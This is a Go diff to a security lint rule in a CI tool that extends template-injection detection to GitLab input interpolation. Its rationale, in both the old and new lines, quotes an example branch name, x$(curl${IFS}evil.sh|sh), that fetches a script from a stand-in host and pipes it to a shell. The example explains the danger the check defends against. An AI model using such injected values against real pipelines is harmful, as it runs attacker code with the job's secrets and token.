@@ -10,8 +10,8 @@ var ruleNativeTemplateInjection = &Rule{
 	Category:  Security,
 	Severity:  diag.Warning,
 	Summary:   "a native block pastes an attacker-controlled platform value into a script",
-	Rationale: "pipec hands its own references to scripts as environment variables, so their text stays data. A native block's scripts get the platform's expressions instead, which the platform replaces with their text before the shell parses the script: GitHub's ${{ inputs.note }} and ${{ github.ref_name }} (in a run step or actions/github-script's script), Azure's macros $(Build.SourceBranch), $(Build.SourceVersionMessage), $(System.PullRequest.SourceBranch) and the like, CircleCI's << pipeline.git.branch >>, << pipeline.git.tag >>, << pipeline.git.commit.subject >> and << pipeline.parameters.X >>. A branch named x$(curl${IFS}evil.sh|sh), a commit message or a string input then runs as code, quoted or not, with the job's secrets and token.",
-	Fix:       "pass the value through the step's environment and quote it in the script: env = { NOTE = \"$${{ inputs.note }}\" } and run = \"echo \\\"$NOTE\\\"\" (Azure: $BUILD_SOURCEBRANCH, CircleCI: $CIRCLE_BRANCH), or use a pipec step with ${input.note}",
+	Rationale: "pipec hands its own references to scripts as environment variables, so their text stays data. A native block's scripts get the platform's expressions instead, which the platform replaces with their text before the shell parses the script: GitHub's ${{ inputs.note }} and ${{ github.ref_name }} (in a run step or actions/github-script's script), GitLab's $[[ inputs.note ]], Azure's macros $(Build.SourceBranch), $(Build.SourceVersionMessage), $(System.PullRequest.SourceBranch) and the like, CircleCI's << pipeline.git.branch >>, << pipeline.git.tag >>, << pipeline.git.commit.subject >> and << pipeline.parameters.X >>. A branch named x$(curl${IFS}evil.sh|sh), a commit message or a string input then runs as code, quoted or not, with the job's secrets and token.",
+	Fix:       "pass the value through the step's environment and quote it in the script: env = { NOTE = \"$${{ inputs.note }}\" } and run = \"echo \\\"$NOTE\\\"\" (GitLab: $PIPEC_INPUT_NOTE, Azure: $BUILD_SOURCEBRANCH, CircleCI: $CIRCLE_BRANCH), or use a pipec step with ${input.note}",
 	check: func(p *Pass) {
 		for _, s := range p.Pipeline.Stages {
 			for _, nv := range nativeInjectable(p, s) {
@@ -49,6 +49,9 @@ var (
 	githubPasted = lazy(`\$\{\{(?:[^}]|\}[^}])*?\b((?:github\.event\.)?inputs(?:\.([A-Za-z0-9_-]+)|\[\s*'([A-Za-z0-9_-]+)'\s*\])|github\.ref_name\b)`)
 	// azurePasted finds an Azure macro of a value a pusher or a pull request chooses.
 	azurePasted = lazy(`(?i)\$\((build\.(sourcebranch|sourcebranchname|sourceversionmessage|requestedfor|requestedforemail|queuedby)|system\.pullrequest\.(sourcebranch|sourcerepositoryuri))\)`)
+	// gitlabPasted finds an input interpolation, which GitLab replaces in the whole file
+	// (pipec gives a spec with manual inputs a spec: inputs: header) before it runs a job.
+	gitlabPasted = lazy(`\$\[\[\s*inputs\.([A-Za-z0-9_-]+)[^\]]*\]\]`)
 	// circlePasted finds a CircleCI pipeline value a pusher or a trigger chooses.
 	circlePasted = lazy(`<<\s*pipeline\.(git\.(branch|tag|commit\.[a-z_]+)|trigger_parameters\.[A-Za-z0-9_.-]+|parameters\.[A-Za-z0-9_-]+)\s*>>`)
 )
@@ -73,6 +76,12 @@ func pastedValue(p *model.Pipeline, nv nativeValue) string {
 	case "circleci":
 		if m := circlePasted.FindStringSubmatch(text); m != nil {
 			return m[0]
+		}
+	case "gitlab":
+		for _, m := range gitlabPasted.FindAllStringSubmatch(text, -1) {
+			if stringInput(p, m[1]) {
+				return m[0]
+			}
 		}
 	}
 	return ""
